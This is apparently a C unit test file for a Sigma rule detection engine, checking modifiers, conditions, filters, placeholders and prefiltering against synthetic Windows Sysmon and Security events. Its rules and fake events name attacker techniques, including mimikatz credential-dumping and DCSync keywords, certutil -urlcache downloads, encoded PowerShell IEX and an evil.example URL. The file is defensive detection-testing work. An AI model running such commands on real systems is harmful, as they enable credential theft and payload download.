/* The Sigma engine: log source mapping, every modifier, conditions, filters, keyword
 * selections, placeholders, skip-and-count loading and the literal prefilter, on
 * Windows events built by hand (the decoders have their own tests). */
#include "detect/detect_int.h"
#include "test.h"

#include <stdarg.h>

static mm_arena arena;

/* A Windows event: channel, event id, then "Key=Value" EventData pairs. */
static mm_event *winev(const char *channel, const char *code, ...) {
    mm_event *ev = mm_arena_zalloc(&arena, sizeof *ev);
    mm_event_init(ev, &arena);
    ev->ts_ns = 1700000000LL * 1000000000LL;
    ev->vendor_prefix = "winlog.event_data";
    mm_event_set(ev, mm_field_by_name("winlog.channel", 14), mm_str_c(channel));
    mm_event_set(ev, MM_F_EVENT_CODE, mm_str_c(code));
    mm_event_set(ev, MM_F_HOST_NAME, mm_str_c("pc-01.sakura.local"));
    va_list ap;
    va_start(ap, code);
    const char *kv;
    mm_buf raw = {0};
    mm_buf_printf(&raw, "{\"Channel\":\"%s\",\"EventID\":%s", channel, code);
    while ((kv = va_arg(ap, const char *)) != NULL) {
        const char *eq = strchr(kv, '=');
        mm_event_vendor(ev, (mm_str){kv, (uint32_t)(eq - kv)}, mm_str_c(eq + 1));
        mm_buf_printf(&raw, ",\"%.*s\":\"%s\"", (int)(eq - kv), kv, eq + 1);
    }
    va_end(ap);
    mm_buf_putc(&raw, '}');
    char *r = mm_arena_strndup(&arena, raw.p, raw.len);
    ev->raw = (mm_str){r, (uint32_t)raw.len};
    mm_buf_free(&raw);
    return ev;
}

#define SYSMON "Microsoft-Windows-Sysmon/Operational"

static mm_detect *load(const char *yaml) {
    mm_err e = {{0}};
    mm_detect *d = mm_detect_from_text("t.yml", yaml, strlen(yaml), NULL, &e);
    if (!d) printf("  load error: %s\n", e.msg);
    return d;
}

/* Alerts of rule `id` raised by ev. */
static int fires(mm_detect *d, mm_event *ev, const char *id) {
    mm_alert *al = NULL;
    mm_detect_state *st = mm_detect_state_new();
    mm_detect_event(d, st, ev, &arena, &al);
    mm_detect_state_free(st);
    int n = 0;
    for (; al; al = al->next) n += !strcmp(al->rule_id, id);
    return n;
}

static const char *proc_rule(const char *detection) {
    static char buf[4096];
    snprintf(buf, sizeof buf,
             "title: t\nid: r1\nlogsource:\n  product: windows\n  category: process_creation\n"
             "detection:\n%s\nlevel: high\n",
             detection);
    return buf;
}

static void process_creation_from_sysmon_and_4688(void) {
    mm_detect *d = load(proc_rule("  sel:\n    Image|endswith: '\\rundll32.exe'\n  condition: sel"));
    CHECK(d);
    CHECK_INT(fires(d, winev(SYSMON, "1", "Image=C:\\Windows\\System32\\RUNDLL32.EXE", NULL), "r1"), 1);
    /* Security 4688 names the image NewProcessName: the mapping finds it */
    CHECK_INT(fires(d, winev("Security", "4688", "NewProcessName=C:\\Windows\\System32\\rundll32.exe", NULL), "r1"), 1);
    /* other channels / event ids are another log source */
    CHECK_INT(fires(d, winev(SYSMON, "3", "Image=C:\\Windows\\System32\\rundll32.exe", NULL), "r1"), 0);
    CHECK_INT(fires(d, winev(SYSMON, "1", "Image=C:\\Windows\\System32\\cmd.exe", NULL), "r1"), 0);
    mm_detect_free(d);
}

static void string_modifiers_and_wildcards(void) {
    mm_detect *d = load(proc_rule("  sel:\n    CommandLine|contains|all: [' -nop ', 'hidden']\n"
                                  "    ParentImage|startswith: 'C:\\Windows\\'\n"
                                  "    User: 'SAKURA\\ta?aka*'\n  condition: sel"));
    CHECK(d);
    CHECK_INT(fires(d, winev(SYSMON, "1", "CommandLine=powershell -NoP -NOP -W Hidden", "ParentImage=c:\\windows\\explorer.exe",
                             "User=sakura\\tanaka.k", NULL), "r1"), 1);
    /* contains|all: one of the two is missing */
    CHECK_INT(fires(d, winev(SYSMON, "1", "CommandLine=powershell -nop -c x", "ParentImage=c:\\windows\\explorer.exe",
                             "User=sakura\\tanaka", NULL), "r1"), 0);
    /* ? is exactly one character */
    CHECK_INT(fires(d, winev(SYSMON, "1", "CommandLine=x -nop hidden", "ParentImage=c:\\windows\\x.exe",
                             "User=sakura\\taaka", NULL), "r1"), 0);
    mm_detect_free(d);
    /* escaped wildcard is literal; cased is case-sensitive */
    d = load(proc_rule("  sel:\n    CommandLine|contains: 'a\\*b'\n  cs:\n    Image|endswith|cased: 'X.exe'\n"
                       "  condition: sel or cs"));
    CHECK(d);
    CHECK_INT(fires(d, winev(SYSMON, "1", "CommandLine=echo a*b", "Image=y.exe", NULL), "r1"), 1);
    CHECK_INT(fires(d, winev(SYSMON, "1", "CommandLine=echo aXb", "Image=y.exe", NULL), "r1"), 0);
    CHECK_INT(fires(d, winev(SYSMON, "1", "CommandLine=z", "Image=c:\\X.exe", NULL), "r1"), 1);
    CHECK_INT(fires(d, winev(SYSMON, "1", "CommandLine=z", "Image=c:\\x.exe", NULL), "r1"), 0);
    mm_detect_free(d);
}

static void regular_expressions(void) {
    mm_detect *d = load(proc_rule("  sel:\n    CommandLine|re: '\\s-e(nc|ncodedcommand)\\s+[A-Za-z0-9+/=]{20,}'\n"
                                  "  ci:\n    Image|re|i: 'PSEXEC(64)?\\.EXE$'\n  condition: sel or ci"));
    CHECK(d);
    CHECK_INT(fires(d, winev(SYSMON, "1", "CommandLine=powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", "Image=p.exe", NULL), "r1"), 1);
    /* re is case-sensitive by default */
    CHECK_INT(fires(d, winev(SYSMON, "1", "CommandLine=powershell -ENC SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", "Image=p.exe", NULL), "r1"), 0);
    CHECK_INT(fires(d, winev(SYSMON, "1", "CommandLine=x", "Image=C:\\tools\\psexec64.exe", NULL), "r1"), 1);
    mm_detect_free(d);
    /* an invalid regex is a compile error that names the reason */
    mm_rule_env env = {0};
    mm_err e = {{0}};
    const char *bad = proc_rule("  sel:\n    CommandLine|re: 'a(b'\n  condition: sel");
    mm_cnode *root = mm_cnode_parse(bad, strlen(bad), "t", &e);
    CHECK(root);
    mm_rule *r = NULL;
    CHECK(mm_rule_compile(root, "t.yml", 1, &env, &r, &e) < 0);
    CHECK_STR(env.skip_reason, "invalid regular expression");
    mm_cnode_free(root);
}

static void base64_and_utf16(void) {
    /* "http://" at every offset of a base64 text; utf16 (wide) then base64 for -enc */
    mm_detect *d = load(proc_rule("  b64:\n    CommandLine|base64offset|contains: 'http://'\n"
                                  "  wide:\n    CommandLine|wide|base64offset|contains: 'IEX'\n"
                                  "  plain:\n    CommandLine|base64|contains: 'whoami'\n"
                                  "  condition: 1 of them"));
    CHECK(d);
    char enc[128];
    const char *payloads[] = {"http://evil.example/x", "Xhttp://evil.example/x", "XYhttp://evil.example/x"};
    for (int i = 0; i < 3; i++) {
        mm_base64_encode((const unsigned char *)payloads[i], strlen(payloads[i]), enc);
        char cl[256];
        snprintf(cl, sizeof cl, "CommandLine=cmd /c echo %s | b64d", enc);
        CHECK_INT(fires(d, winev(SYSMON, "1", cl, NULL), "r1"), 1);
    }
    /* "IEX (" as UTF-16LE, base64: what powershell -enc carries */
    const unsigned char w[] = {'I', 0, 'E', 0, 'X', 0, ' ', 0, '(', 0};
    mm_base64_encode(w, sizeof w, enc);
    char cl[256];
    snprintf(cl, sizeof cl, "CommandLine=powershell -enc %s", enc);
    CHECK_INT(fires(d, winev(SYSMON, "1", cl, NULL), "r1"), 1);
    mm_base64_encode((const unsigned char *)"whoami", 6, enc);
    snprintf(cl, sizeof cl, "CommandLine=x %s", enc);
    CHECK_INT(fires(d, winev(SYSMON, "1", cl, NULL), "r1"), 1);
    CHECK_INT(fires(d, winev(SYSMON, "1", "CommandLine=cmd /c echo http://evil.example", NULL), "r1"), 0);
    mm_detect_free(d);
}

static void windash(void) {
    mm_detect *d = load(proc_rule("  sel:\n    CommandLine|contains|windash: ' -urlcache '\n  condition: sel"));
    CHECK(d);
    CHECK_INT(fires(d, winev(SYSMON, "1", "CommandLine=certutil -urlcache -f http://x a.exe", NULL), "r1"), 1);
    CHECK_INT(fires(d, winev(SYSMON, "1", "CommandLine=certutil /urlcache /f http://x a.exe", NULL), "r1"), 1);
    CHECK_INT(fires(d, winev(SYSMON, "1", "CommandLine=certutil \xe2\x80\x93urlcache x", NULL), "r1"), 1);
    CHECK_INT(fires(d, winev(SYSMON, "1", "CommandLine=certutil -urlcachex", NULL), "r1"), 0);
    CHECK_INT(fires(d, winev(SYSMON, "1", "CommandLine=certutil \xe2\x80\x94urlcache x", NULL), "r1"), 1);
    CHECK_INT(fires(d, winev(SYSMON, "1", "CommandLine=certutil urlcache x", NULL), "r1"), 0);
    mm_detect_free(d);
}

static void numbers_cidr_exists_null_fieldref(void) {
    mm_detect *d = load("title: t\nid: r1\nlogsource: {product: windows, service: security}\n"
                        "detection:\n  sel:\n    EventID: 4624\n    LogonType|gte: 3\n    LogonType|lt: 10\n"
                        "    IpAddress|cidr: ['10.0.0.0/8', 'fd00::/8']\n    WorkstationName|exists: true\n"
                        "    ProcessName: null\n    TargetUserName|fieldref|neq: SubjectUserName\n"
                        "  condition: sel\n");
    CHECK(d);
    CHECK_INT(fires(d, winev("Security", "4624", "LogonType=3", "IpAddress=10.2.3.4", "WorkstationName=PC1",
                             "TargetUserName=alice", "SubjectUserName=bob", NULL), "r1"), 1);
    CHECK_INT(fires(d, winev("Security", "4624", "LogonType=10", "IpAddress=10.2.3.4", "WorkstationName=PC1",
                             "TargetUserName=alice", "SubjectUserName=bob", NULL), "r1"), 0);
    CHECK_INT(fires(d, winev("Security", "4624", "LogonType=3", "IpAddress=192.0.2.1", "WorkstationName=PC1",
                             "TargetUserName=alice", "SubjectUserName=bob", NULL), "r1"), 0);
    CHECK_INT(fires(d, winev("Security", "4624", "LogonType=3", "IpAddress=fd00::5", "WorkstationName=PC1",
                             "TargetUserName=alice", "SubjectUserName=bob", NULL), "r1"), 1);
    CHECK_INT(fires(d, winev("Security", "4624", "LogonType=3", "IpAddress=10.2.3.4", "TargetUserName=alice",
                             "SubjectUserName=bob", NULL), "r1"), 0);   /* WorkstationName missing */
    CHECK_INT(fires(d, winev("Security", "4624", "LogonType=3", "IpAddress=10.2.3.4", "WorkstationName=PC1",
                             "ProcessName=x.exe", "TargetUserName=alice", "SubjectUserName=bob", NULL), "r1"), 0);
    CHECK_INT(fires(d, winev("Security", "4624", "LogonType=3", "IpAddress=10.2.3.4", "WorkstationName=PC1",
                             "TargetUserName=ALICE", "SubjectUserName=alice", NULL), "r1"), 0);   /* same user */
    /* wrong channel: not the security log source */
    CHECK_INT(fires(d, winev("System", "4624", "LogonType=3", "IpAddress=10.2.3.4", "WorkstationName=PC1",
                             "TargetUserName=alice", "SubjectUserName=bob", NULL), "r1"), 0);
    mm_detect_free(d);
    /* '' is an empty value, not a missing one; null in a list means "or missing" */
    d = load("title: t\nid: r1\nlogsource: {product: windows, service: security}\n"
             "detection:\n  sel:\n    EventID: 4688\n    ParentProcessName: ''\n  m:\n    EventID: 4689\n"
             "    Status: [null, '0x0']\n  condition: sel or m\n");
    CHECK(d);
    CHECK_INT(fires(d, winev("Security", "4688", "ParentProcessName=", NULL), "r1"), 1);
    CHECK_INT(fires(d, winev("Security", "4688", NULL), "r1"), 0);
    CHECK_INT(fires(d, winev("Security", "4689", NULL), "r1"), 1);
    CHECK_INT(fires(d, winev("Security", "4689", "Status=0x0", NULL), "r1"), 1);
    CHECK_INT(fires(d, winev("Security", "4689", "Status=0x1", NULL), "r1"), 0);
    mm_detect_free(d);
}

static void conditions_and_keywords(void) {
    /* precedence: not binds tighter than and, and than or */
    mm_detect *d = load(proc_rule("  a:\n    Image|endswith: '\\a.exe'\n  b:\n    Image|endswith: '\\b.exe'\n"
                                  "  c:\n    CommandLine|contains: 'safe'\n  condition: a or b and not c"));
    CHECK(d);
    CHECK_INT(fires(d, winev(SYSMON, "1", "Image=x\\a.exe", "CommandLine=safe", NULL), "r1"), 1);
    CHECK_INT(fires(d, winev(SYSMON, "1", "Image=x\\b.exe", "CommandLine=safe", NULL), "r1"), 0);
    CHECK_INT(fires(d, winev(SYSMON, "1", "Image=x\\b.exe", "CommandLine=go", NULL), "r1"), 1);
    mm_detect_free(d);
    d = load(proc_rule("  sel_1:\n    Image|endswith: '\\a.exe'\n  sel_2:\n    CommandLine|contains: 'x'\n"
                       "  filter_main:\n    User: SYSTEM\n  condition: all of sel_* and not 1 of filter_*"));
    CHECK(d);
    CHECK_INT(fires(d, winev(SYSMON, "1", "Image=\\a.exe", "CommandLine=x", "User=alice", NULL), "r1"), 1);
    CHECK_INT(fires(d, winev(SYSMON, "1", "Image=\\a.exe", "CommandLine=y", "User=alice", NULL), "r1"), 0);
    CHECK_INT(fires(d, winev(SYSMON, "1", "Image=\\a.exe", "CommandLine=x", "User=system", NULL), "r1"), 0);
    mm_detect_free(d);
    /* keyword lists and '|all' keywords search the whole record */
    d = load("title: t\nid: r1\nlogsource: {product: windows, service: system}\n"
             "detection:\n  kw:\n    '|all':\n      - 'mimikatz'\n      - 'sekurlsa'\n  kw2:\n    - 'lsadump::dcsync'\n"
             "  condition: kw or kw2\n");
    CHECK(d);
    CHECK_INT(fires(d, winev("System", "7045", "ImagePath=c:\\mimikatz.exe sekurlsa::logonpasswords", NULL), "r1"), 1);
    CHECK_INT(fires(d, winev("System", "7045", "ImagePath=c:\\mimikatz.exe", NULL), "r1"), 0);
    CHECK_INT(fires(d, winev("System", "7045", "ImagePath=x lsadump::DCSync /user:krbtgt", NULL), "r1"), 1);
    mm_detect_free(d);
}

static void filters_tune_rules(void) {
    const char *y = "title: t\nid: r1\nlogsource: {product: windows, category: process_creation}\n"
                    "detection:\n  sel:\n    Image|endswith: '\\rar.exe'\n  condition: sel\n"
                    "---\n"
                    "title: Admin backups with rar are expected\nid: f1\n"
                    "logsource: {product: windows, category: process_creation}\n"
                    "filter:\n  rules: [r1]\n  selection:\n    User|startswith: 'SAKURA\\adm_'\n  condition: selection\n";
    mm_detect *d = load(y);
    CHECK(d);
    CHECK_INT(fires(d, winev(SYSMON, "1", "Image=c:\\rar.exe", "User=SAKURA\\tanaka", NULL), "r1"), 1);
    CHECK_INT(fires(d, winev(SYSMON, "1", "Image=c:\\rar.exe", "User=SAKURA\\adm_sato", NULL), "r1"), 0);
    /* the filter itself never alerts */
    CHECK_INT(fires(d, winev(SYSMON, "1", "Image=c:\\x.exe", "User=SAKURA\\adm_sato", NULL), "f1"), 0);
    mm_detect_free(d);
}

static void time_modifier_and_placeholders(void) {
    /* 1700000000 = 2023-11-14T22:13:20Z */
    mm_detect *d = load("title: t\nid: r1\nlogsource: {product: windows, service: security}\n"
                        "detection:\n  sel:\n    EventID: 4624\n    UtcTime|hour: 22\n  condition: sel\n");
    CHECK(d);
    CHECK_INT(fires(d, winev("Security", "4624", "UtcTime=2023-11-14 22:13:20.000", NULL), "r1"), 1);
    CHECK_INT(fires(d, winev("Security", "4624", "UtcTime=2023-11-14 09:13:20.000", NULL), "r1"), 0);
    mm_detect_free(d);
    /* expand: placeholders come from the configuration (rules.placeholders) */
    const char *y = "title: t\nid: r1\nlogsource: {product: windows, service: security}\n"
                    "detection:\n  sel:\n    EventID: 4624\n  admins:\n    WorkstationName|expand: '%admin_ws%'\n"
                    "  condition: sel and not admins\n";
    mm_err e = {{0}};
    mm_cnode *ph = mm_cnode_parse("admin_ws: [ADM-01, ADM-02]\n", 27, "ph", &e);
    CHECK(ph);
    mm_lsmaps maps = {0};
    CHECK(mm_lsmaps_load_dir(&maps, MM_HOME "/rules/mappings", &e) == 0);
    mm_rule_env env = {.placeholders = ph, .maps = &maps};
    mm_cnode *root = mm_cnode_parse(y, strlen(y), "t", &e);
    mm_rule *r = NULL;
    CHECK(mm_rule_compile(root, "t.yml", 1, &env, &r, &e) == 0);
    mm_eval cx = {0};
    CHECK(mm_rule_match(r, winev("Security", "4624", "WorkstationName=PC-9", NULL), &cx));
    CHECK(!mm_rule_match(r, winev("Security", "4624", "WorkstationName=adm-02", NULL), &cx));
    mm_rule_free(r);
    /* without the placeholder configured the rule is refused with a reason */
    mm_rule_env none = {.maps = &maps};
    CHECK(mm_rule_compile(root, "t.yml", 1, &none, &r, &e) < 0);
    CHECK_STR(none.skip_reason, "undefined placeholder");
    mm_cnode_free(root);
    mm_lsmaps_free(&maps);
    mm_cnode_free(ph);
}

static void bad_rules_are_skipped_and_counted(void) {
    char dir[] = "/tmp/mm_sigma_XXXXXX";
    CHECK(mkdtemp(dir));
    char p[512];
    snprintf(p, sizeof p, "%s/good.yml", dir);
    FILE *f = fopen(p, "w");
    fputs(proc_rule("  sel:\n    Image|endswith: '\\a.exe'\n  condition: sel"), f);
    fclose(f);
    snprintf(p, sizeof p, "%s/bad.yml", dir);
    f = fopen(p, "w");
    fputs("title: b1\nid: b1\nlogsource: {product: windows, service: security}\n"
          "detection:\n  sel:\n    EventID|nosuchmod: 1\n  condition: sel\n---\n"
          "title: b2\nid: b2\ndetection:\n  sel:\n    x: [1\n---\n"
          "title: b3\nid: b3\nlogsource: {product: linux, category: process_creation}\n"
          "detection:\n  sel:\n    Image|endswith: /bash\n  condition: sel\n",
          f);
    fclose(f);
    mm_config c;
    mm_config_defaults(&c);
    mm_rules_report rep = {0};
    char *dirs[] = {dir};
    mm_detect_opts o = {.extra = dirs, .nextra = 1, .only_extra = true, .report = &rep};
    mm_err e = {{0}};
    mm_detect *d = mm_detect_load_opts(&c, &o, &e);
    CHECK(d);
    CHECK_INT(rep.loaded, 2);     /* good + b3 (inactive: no linux mapping) */
    CHECK_INT(rep.inactive, 1);
    CHECK_INT(rep.skipped, 2);
    bool mod = false, yaml = false;
    for (int i = 0; i < rep.nskips; i++) {
        mod |= !strcmp(rep.skips[i].reason, "unknown modifier");
        yaml |= !strcmp(rep.skips[i].reason, "YAML error");
    }
    CHECK(mod && yaml);
    mm_detect_free(d);
    mm_rules_report_free(&rep);
    /* strict loading (rules test) refuses the folder */
    mm_detect_opts so = {.extra = dirs, .nextra = 1, .only_extra = true, .strict = true};
    CHECK(mm_detect_load_opts(&c, &so, &e) == NULL);
    mm_config_free(&c);
    snprintf(p, sizeof p, "rm -rf %s", dir);
    CHECK(system(p) == 0);
}

static void prefilter_finds_the_candidates(void) {
    /* 40 process_creation rules share the log source anchor; literals route them */
    mm_buf y = {0};
    for (int i = 0; i < 40; i++)
        mm_buf_printf(&y,
                      "%stitle: t%d\nid: p%d\nlogsource: {product: windows, category: process_creation}\n"
                      "detection:\n  sel:\n    CommandLine|contains: 'tool%03d.exe'\n  f:\n    Image|endswith: '\\x%d.exe'\n"
                      "  condition: sel or f\n",
                      i ? "---\n" : "", i, i, i, i);
    mm_err e = {{0}};
    mm_detect *d = mm_detect_from_text("t.yml", mm_buf_cstr(&y), y.len, NULL, &e);
    mm_buf_free(&y);
    CHECK(d);
    CHECK_INT(mm_detect_prefiltered(d), 40);
    CHECK_INT(fires(d, winev(SYSMON, "1", "CommandLine=run TOOL017.EXE now", "Image=c:\\a.exe", NULL), "p17"), 1);
    CHECK_INT(fires(d, winev(SYSMON, "1", "CommandLine=run TOOL017.EXE now", "Image=c:\\a.exe", NULL), "p18"), 0);
    CHECK_INT(fires(d, winev(SYSMON, "1", "CommandLine=nothing", "Image=c:\\X33.exe", NULL), "p33"), 1);
    /* the literal must be in its own field */
    CHECK_INT(fires(d, winev(SYSMON, "1", "CommandLine=x33.exe", "Image=c:\\a.exe", NULL), "p33"), 0);
    mm_detect_free(d);
}

/* Regular expressions reach the prefilter through a literal every match contains;
 * each of these must still match its sample when the rules are prefiltered. */
static void regex_literals_never_hide_a_match(void) {
    static const char *const cases[][2] = {
        {"rundll32\\.exe.+,#1", "c:\\x\\rundll32.exe foo.dll,#1"},
        {"foo(bar)?baz", "xx foobaz yy"},
        {"ab?cdef", "acdef"},
        {"(?i)invoke-expression", "INVOKE-EXPRESSION x"},
        {"\\x41bc{1,3}de", "Abcccde"},
        {"[]a]xyz", "]xyz"},
        {"net\\s+user\\s+/add", "net  user  /add"},
        {"abc{0,2}def", "abdef"},
        {"pow(er)+shell", "powererershell"},
        {"caf\xc3\xa9?latte", "caflatte"},
        {"^a|bcd", "a"},
        {"x{2}yyy", "xxyyy"},
        {"[[:digit:]]abcdef", "x1abcdef"},
        {"(?x) mimi katz", "mimikatz"},
        {"abcdef(?#(x)|zzz", "zzz"},
        {"ab(*ACCEPT)cdefgh", "xxab"},
        {"(?i)mimikatz", "mimi\xe2\x84\xaa" "atz"},   /* KELVIN SIGN folds to k */
    };
    mm_buf y = {0};
    int n = (int)(sizeof cases / sizeof cases[0]);
    for (int i = 0; i < n + 12; i++)   /* 12 more rules make the log source crowded */
        mm_buf_printf(&y,
                      "%stitle: t%d\nid: x%d\nlogsource: {product: windows, category: process_creation}\n"
                      "detection:\n  sel:\n    CommandLine|re: '%s'\n  condition: sel\n",
                      i ? "---\n" : "", i, i, i < n ? cases[i][0] : "padding[0-9]{4}rule");
    mm_err e = {{0}};
    mm_detect *d = mm_detect_from_text("t.yml", mm_buf_cstr(&y), y.len, NULL, &e);
    mm_buf_free(&y);
    if (!d) printf("  %s\n", e.msg);
    CHECK(d);
    CHECK(mm_detect_prefiltered(d) > 0);
    for (int i = 0; i < n; i++) {
        char id[16], cl[256];
        snprintf(id, sizeof id, "x%d", i);
        snprintf(cl, sizeof cl, "CommandLine=%s", cases[i][1]);
        int got = fires(d, winev(SYSMON, "1", cl, NULL), id);
        if (got != 1) printf("  regex %s on %s: %d alerts\n", cases[i][0], cases[i][1], got);
        CHECK_INT(got, 1);
    }
    mm_detect_free(d);
}

/* Findings of a review, each a way a match could be hidden or a rule could hurt. */
static void review_regressions(void) {
    /* null in a list: a missing field matches, whatever the anchor index says */
    mm_detect *d = load("title: t\nid: r1\nlogsource: {product: windows, service: security}\n"
                        "detection:\n  s:\n    EventID: 4624\n    TargetUserName: [null, admin]\n  condition: s\n");
    CHECK(d);
    CHECK_INT(fires(d, winev("Security", "4624", "LogonType=3", NULL), "r1"), 1);
    CHECK_INT(fires(d, winev("Security", "4624", "TargetUserName=bob", NULL), "r1"), 0);
    mm_detect_free(d);
    /* utf16 values hold NUL bytes: not usable as anchor strings */
    d = load("title: t\nid: r1\nlogsource: {product: windows, service: security}\n"
             "detection:\n  s:\n    Description|wide: abc\n  condition: s\n");
    CHECK(d);
    mm_event *ev = winev("Security", "4624", NULL);
    mm_event_vendor(ev, mm_str_c("Description"), (mm_str){"a\0b\0c\0", 6});
    CHECK_INT(fires(d, ev, "r1"), 1);
    mm_detect_free(d);
    /* all with windash: each value, in any of its spellings */
    d = load(proc_rule("  s:\n    CommandLine|contains|windash|all: ['-exec', '-nop']\n  condition: s"));
    CHECK(d);
    CHECK_INT(fires(d, winev(SYSMON, "1", "CommandLine=powershell -nop -exec bypass", NULL), "r1"), 1);
    CHECK_INT(fires(d, winev(SYSMON, "1", "CommandLine=powershell /nop /exec bypass", NULL), "r1"), 1);
    CHECK_INT(fires(d, winev(SYSMON, "1", "CommandLine=powershell -nop", NULL), "r1"), 0);
    mm_detect_free(d);
    /* IP equality compares addresses, so no literal may stand for it */
    d = load("title: t\nid: r1\nlogsource: {category: firewall}\n"
             "detection:\n  s:\n    dst_ip: '2001:db8::1'\n  condition: s\n");
    CHECK(d);
    ev = winev("Security", "1", NULL);
    ev->vendor_prefix = NULL;
    mm_event_add(ev, MM_F_EVENT_CATEGORY, mm_str_c("network"));
    mm_event_set(ev, MM_F_SOURCE_IP, mm_str_c("10.0.0.1"));
    mm_event_set(ev, MM_F_DESTINATION_IP, mm_str_c("2001:db8:0:0:0:0:0:1"));
    CHECK_INT(fires(d, ev, "r1"), 1);
    mm_detect_free(d);
    /* keywords see decoded values, not only the record's encoding (JSON escapes) */
    d = load("title: t\nid: r1\nlogsource: {product: windows, service: system}\n"
             "detection:\n  kw:\n    - 'c:\\windows\\temp\\evil.exe'\n  condition: kw\n");
    CHECK(d);
    ev = winev("System", "7045", "ImagePath=C:\\Windows\\Temp\\evil.exe", NULL);
    ev->raw = mm_str_c("{\"ImagePath\":\"C:\\\\Windows\\\\Temp\\\\evil.exe\"}");   /* as JSON has it */
    CHECK_INT(fires(d, ev, "r1"), 1);
    mm_detect_free(d);
    /* a hex number too long for 64 bits is not a number */
    d = load("title: t\nid: r1\nlogsource: {product: windows, service: security}\n"
             "detection:\n  s:\n    Size|lt: 0\n  condition: s\n");
    CHECK(d);
    CHECK_INT(fires(d, winev("Security", "1", "Size=0xFFFFFFFFFFFFFFFFF", NULL), "r1"), 0);
    CHECK_INT(fires(d, winev("Security", "1", "Size=-5", NULL), "r1"), 1);
    mm_detect_free(d);
    /* a condition chain long enough to exhaust the stack is refused at load */
    mm_buf y = {0};
    mm_buf_puts(&y, proc_rule("  s:\n    Image: x\n  condition: s"));
    const char *c = strstr(mm_buf_cstr(&y), "condition: s");
    CHECK(c);
    mm_buf t = {0};
    mm_buf_put(&t, y.p, (size_t)(c - y.p) + strlen("condition: s"));
    for (int i = 0; i < 3000; i++) mm_buf_puts(&t, " and s");
    mm_buf_puts(&t, "\nlevel: high\n");
    mm_err e = {{0}};
    d = mm_detect_from_text("t.yml", mm_buf_cstr(&t), t.len, NULL, &e);
    CHECK(d == NULL);
    CHECK(strstr(e.msg, "condition too long") != NULL);
    mm_buf_free(&y);
    mm_buf_free(&t);
}

int main(void) {
    mm_arena_init(&arena, 1 << 16);
    TEST(process_creation_from_sysmon_and_4688);
    TEST(string_modifiers_and_wildcards);
    TEST(regular_expressions);
    TEST(base64_and_utf16);
    TEST(windash);
    TEST(numbers_cidr_exists_null_fieldref);
    TEST(conditions_and_keywords);
    TEST(filters_tune_rules);
    TEST(time_modifier_and_placeholders);
    TEST(bad_rules_are_skipped_and_counted);
    TEST(prefilter_finds_the_candidates);
    TEST(regex_literals_never_hide_a_match);
    TEST(review_regressions);
    mm_arena_free(&arena);
    TEST_MAIN_END();
}
